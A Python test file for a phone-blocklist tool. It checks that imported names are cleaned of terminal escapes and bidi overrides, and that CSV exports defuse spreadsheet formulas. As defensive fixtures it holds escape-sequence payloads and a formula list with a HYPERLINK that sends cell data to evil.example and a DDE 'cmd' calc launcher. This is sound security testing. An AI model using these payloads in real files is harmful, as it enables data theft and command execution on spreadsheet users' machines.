"""A stranger's text in a list file: it never reaches the store with terminal escapes, and never
leaves in a CSV-like file as a spreadsheet formula (issue 20, items 2 and 3)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from lookup.blocklists import FORMATS, ExportFormat, ExportRow, ImportFormat, export_rows, read_entries
from lookup.text import clean_text

ESC_BEL = "\x1b]0;pwned\x07\x1b[2J"  # sets the terminal title, then clears the screen
# One file per readable format, each with escapes (or, for XML, which cannot hold ESC, bidi
# overrides and line separators) in the names and descriptions it carries.
HOSTILE_FILES = {
    "txt": f"+12025550123 # {ESC_BEL}\n",
    "csv": f"number,description,verdict,score,added_at\n+12025550123,{ESC_BEL}evil,,,\n",
    "json": '[{"pattern": "+12025550123", "name": "\\u001b]0;x\\u0007evil", "description": "\\u001b[2Jgone"}]',
    "vcard": f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{ESC_BEL}Spam\r\nTEL:+12025550123\r\nEND:VCARD\r\n",
    "vcard4": f"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:{ESC_BEL}Spam\r\nTEL:+12025550123\r\nEND:VCARD\r\n",
    "fritzbox": "<phonebooks><phonebook><contact><person><realName>a\u202egnp.exe\u2028b</realName></person>"
    "<telephony><number>+12025550123</number></telephony></contact></phonebook></phonebooks>",
    "ncid": f"^1?2025550123    #= {ESC_BEL}evil\n",
    "freepbx": f"number,description\n2025550123,{ESC_BEL}evil\n",
    "astdb": f'database put blacklist 2025550123 "{ESC_BEL}evil"\n',
    "yacb": f"ID,name,pattern,creationTimestamp,numberOfCalls,lastCallTimestamp\n1,{ESC_BEL}evil,+12025550123,0,0,\n",
    "spamblocker": f"pattern,description,priority,isBlacklist\n12025550123,{ESC_BEL}evil,1,true\n",
    "callblocker": '{"name": "x", "entries": [{"name": "\\u001b]0;x\\u0007evil", "number": "+12025550123"}]}',
    "contacts_vcard": f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{ESC_BEL}Mum\r\nTEL:+12025550123\r\nEND:VCARD\r\n",
    "google_contacts_csv": f"Name,Phone 1 - Value\n{ESC_BEL}Mum,+12025550123\n",
}
READABLE = [spec.name for spec in FORMATS.values() if spec.reader]
CSV_LIKE = [ExportFormat(spec.name) for spec in FORMATS.values() if spec.writer and spec.media_type == "text/csv"]


def test_every_reader_has_a_hostile_file() -> None:
    assert sorted(HOSTILE_FILES) == sorted(READABLE)


@pytest.mark.parametrize("fmt", READABLE)
def test_every_reader_cleans_what_it_reads(fmt: str, tmp_path: Path) -> None:
    path = tmp_path / f"hostile.{fmt}"
    path.write_text(HOSTILE_FILES[fmt], encoding="utf-8", newline="")
    entries = list(read_entries(path, ImportFormat(fmt)))
    assert [entry.pattern for entry in entries] == ["+12025550123"]
    texts = [text for entry in entries for text in (entry.name, entry.description) if text]
    if fmt != "txt":  # a plain list carries no text
        assert texts, "the hostile file should carry a name or description"
    for text in texts:
        assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text and "\u2028" not in text
        assert clean_text(text) == text


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("fmt", CSV_LIKE, ids=str)
def test_csv_like_writers_neutralise_formulas_and_keep_numbers(fmt: ExportFormat) -> None:
    numbers = [f"+1202555{index:04d}" for index in range(len(FORMULAS))]
    rows = [ExportRow(number, description=text, name=text) for number, text in zip(numbers, FORMULAS)]
    out = io.StringIO()
    export_rows(rows, fmt, out)
    records = list(csv.reader(io.StringIO(out.getvalue())))[1:]
    assert len(records) == len(FORMULAS)
    for number, record in zip(numbers, records):
        assert number in record or number[1:] in record  # the number column is written as it was
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in record if cell not in (number, number[1:]))
        assert any(cell.startswith("'") for cell in record)  # the text is kept, guarded
